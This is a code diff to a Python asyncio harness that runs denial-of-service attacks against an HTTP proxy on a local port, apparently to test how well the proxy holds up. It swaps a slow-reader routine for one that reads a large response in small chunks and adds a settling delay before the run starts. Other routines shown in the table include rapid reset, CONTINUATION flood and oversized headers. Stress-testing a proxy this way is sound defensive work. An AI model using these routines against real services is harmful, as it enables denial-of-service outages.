@@ -21,6 +21,8 @@ IDLE = 9_000
 """Connections; a proxy takes 10,000 unless it is told otherwise."""
 GET = f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode()
 PAUSE_S = 0.01
+SETTLE_S = 3.0
+"""Until the kernel's buffers are full of what slow readers have asked for."""
 Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]
 Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
 
@@ -39,13 +41,11 @@ async def write_slowly(_: asyncio.StreamReader, writer: asyncio.StreamWriter) ->
         await asyncio.sleep(0.1)
 
 
-async def read_nothing(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-    """Ask for one thing after the other, and read no answer."""
-    writer.transport.pause_reading()  # type: ignore[attr-defined]
-    while True:
-        writer.write(GET + b"\r\n")
-        await writer.drain()
-        await asyncio.sleep(0.01)
+async def read_slowly(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    """Ask for much, and read it drop by drop."""
+    writer.write(f"GET /large HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
+    while await reader.read(1000):  # noqa: ASYNC110 - this is how it is meant
+        await asyncio.sleep(0.1)
 
 
 async def send_large_heads(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
@@ -95,7 +95,7 @@ async def repeat_a_header(_: asyncio.StreamReader, writer: asyncio.StreamWriter)
 ATTACKS: dict[str, tuple[Attack, int]] = {
     "idle connections": (stay, IDLE),
     "slow writers": (write_slowly, 500),
-    "slow readers": (read_nothing, 100),
+    "slow readers": (read_slowly, 50),
     "large heads": (send_large_heads, 2),
     "rapid reset": (reset_rapidly, 2),
     "CONTINUATION flood": (continue_forever, 2),
@@ -133,6 +133,7 @@ async def run(name: str, port: int, seconds: float) -> None:
         tasks.append(asyncio.create_task(_again_and_again(attack, port)))
         if number % 100 == 0:
             await asyncio.sleep(PAUSE_S)  # a backlog that overflows would be no attack on the proxy
+    await asyncio.sleep(SETTLE_S)
     print("ready", flush=True)
     await asyncio.sleep(seconds)
     for task in tasks:
